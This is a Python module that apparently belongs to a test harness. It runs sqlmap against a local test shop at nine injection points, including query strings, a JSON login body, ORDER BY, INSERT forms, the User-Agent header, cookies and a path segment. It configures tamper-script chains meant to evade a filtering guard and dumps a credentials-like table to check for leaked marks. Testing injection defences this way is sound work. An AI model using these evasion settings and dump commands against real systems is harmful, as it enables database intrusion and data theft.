"""Where values are pasted into SQL, and how sqlmap is sent there."""

import shutil
from dataclasses import dataclass

import process

# Level and risk that suffice without a guard, and what is tried against one.
PLAIN = ("--level", "2", "--risk", "1")
# Where the quickest way in, a second statement that sleeps, would take hours for a table.
PATIENT = ("--level", "3", "--risk", "1", "--technique", "BEU")
HARD = ("--level", "5", "--risk", "3")

# What every context is tried with, after a run without any: scripts that keep a statement valid for both databases.
TAMPERS = ("space2comment,between,randomcase", "charencode,equaltolike")
# One more for each context, of those that some reader between a client and its database undoes.
FURTHER = ("randomcomments,symboliclogical,unionalltounion", "versionedkeywords", "space2randomblank,greatest,lowercase",
           "commentbeforeparentheses,multiplespaces,least", "charencode,randomcomments,randomcase", "space2morecomment,dunion")


@dataclass(frozen=True)
class Context:
    """One place that a value is pasted into."""

    name: str
    told: str
    target: str
    # What sqlmap is told of the request.
    arguments: tuple
    # A script that is of use here alone.
    tamper: str = ""
    # What suffices without a guard.
    plain: tuple = PLAIN

    def tampers(self, turn):
        """The scripts of each run against the guard; `turn` is the number of the context."""
        return ("", *TAMPERS, self.tamper or FURTHER[turn % len(FURTHER)])


CONTEXTS = (
    Context("string", "string in `WHERE`", "/products?name=Lamp", ("-p", "name")),
    Context("json", "JSON body, string in `WHERE`", "/log-in", ("--data", '{"login": "anna"}', "-H", "Content-Type: application/json", "-p", "login"), "charunicodeescape"),
    Context("number", "number in `WHERE`", "/products/of?category=1", ("-p", "category")),
    Context("like", "pattern of `LIKE`, decoded twice", "/search?q=lamp", ("-p", "q"), "chardoubleencode"),
    Context("order", "`ORDER BY`", "/products/sorted?by=price", ("-p", "by")),
    Context("insert", "value of `INSERT`, form", "/reviews", ("--data", "words=good", "-p", "words"), plain=PATIENT),
    Context("header", "`User-Agent` in `INSERT`", "/welcome", ("--user-agent", "shop/1.0", "-p", "user-agent"), plain=PATIENT),
    Context("cookie", "cookie, plain or base64", "/account", ("--cookie", "session=t-anna-5150", "-p", "session"), "base64encode"),
    Context("path", "segment of the path, number in `WHERE`", "/products/3*", ()),
)
# With few minutes.
QUICK = ("string", "json")
DIALECTS = {"sqlite": "SQLite", "postgresql": "PostgreSQL"}


def narrowed(context):
    """Effort for all but the first run: not spent on the way that would take hours."""
    return HARD + context.plain[4:] if context.plain is PATIENT else HARD


def command(sqlmap, context, database, port, folder, effort, tamper=""):
    """A run of sqlmap that finds its way in by itself and takes the table of marks."""
    of = ("-D", "public") if database == "postgresql" else ()
    return [*sqlmap, "-u", f"http://127.0.0.1:{port}{context.target}", *context.arguments, *effort, *(("--tamper", tamper) if tamper else ()),
            "--dbms", DIALECTS[database], *of, "-T", "accounts", "-C", "mark", "--dump", "--batch", "--flush-session",
            "--disable-coloring", "--threads", "4", "--time-sec", "2", "--timeout", "10", "--retries", "1", "--output-dir", folder / "out"]


def run(sqlmap, context, database, tap, folder, seconds, effort, tamper=""):
    """Lets sqlmap loose; answers what it says and what it got hold of, to which the tap adds."""
    folder.mkdir()
    log = folder / "sqlmap.log"
    home = {"HOME": str(folder), "XDG_DATA_HOME": str(folder), "PATH": "/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE": "1", "LC_ALL": "C.UTF-8"}
    code = process.run(command(sqlmap, context, database, tap.port, folder, effort, tamper), seconds, log, folder=folder, environment=home)
    said = log.read_text(errors="replace")
    obtained = set()
    for file in folder.rglob("*"):
        if file.is_file():
            obtained.update(tap.mark.findall(file.read_bytes()))
    shutil.rmtree(folder / "out", ignore_errors=True)
    return {"found": "identified the following injection point" in said, "in_time": code != 124, "code": code, "marks": obtained}
